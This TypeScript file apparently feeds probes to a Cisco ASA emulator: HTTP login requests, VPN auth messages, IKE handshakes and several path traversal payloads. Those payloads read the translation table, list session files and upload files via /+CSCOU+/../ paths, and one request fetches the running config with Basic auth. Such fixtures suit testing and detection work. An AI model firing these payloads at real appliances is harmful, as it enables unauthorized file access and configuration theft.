import { aggressive, main, saInit } from '../../emulators/cisco-asa/ike-messages.ts'
import { httpRequest } from '../http-request.ts'

/** The holes and the logins over HTTP, and the first messages of IKE for the UDP ports. */
export default [
  httpRequest('GET', '/'),
  httpRequest('GET', '/+CSCOE+/logon.html?fcadbadd=1'),
  httpRequest('POST', '/+webvpn+/index.html', 'username=u&password=p&group_list=x', {
    'Content-Type': 'application/x-www-form-urlencoded',
  }),
  httpRequest(
    'POST',
    '/',
    '<config-auth client="vpn" type="init"><version who="vpn">4.1</version><device-id unique-id="A">w</device-id></config-auth>',
    {
      'X-Aggregate-Auth': '1',
    },
  ),
  httpRequest('POST', '/', '<config-auth type="auth-reply"><auth><username>a</username><password>b</password></auth></config-auth>'),
  httpRequest('POST', '/', '<config-auth><host-scan-reply>AAAA</host-scan-reply></config-auth>'),
  httpRequest('GET', '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&lang=../'),
  httpRequest('GET', '/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions'),
  httpRequest('POST', '/+CSCOU+//../+CSCOE+/files/file_action.html?mode=upload', 'x', {
    'Content-Type': 'multipart/form-data; boundary=ee',
  }),
  httpRequest('GET', '/admin/exec/show+version/show+run', '', { Authorization: 'Basic YTpi' }),
  Buffer.from('16030100a5010000a10303', 'hex'),
  main(),
  aggressive('vpn', Buffer.alloc(128, 3), Buffer.alloc(20, 4)),
  saInit(),
  saInit({ pad: 100 }),
]
